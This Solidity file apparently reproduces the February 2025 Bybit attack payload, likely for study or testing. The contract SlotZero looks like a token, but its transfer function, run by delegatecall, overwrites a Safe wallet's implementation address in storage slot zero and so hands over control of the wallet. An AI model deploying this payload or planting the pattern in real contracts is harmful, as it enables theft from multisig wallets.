// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.28;

/// @notice The payload of 21 February 2025 (Bybit): it looks like a token and its transfer, run by
/// delegatecall, makes the "recipient" the Safe's code.
contract SlotZero {
    address private singleton;

    function transfer(address to, uint256) external {
        singleton = to;
    }
}
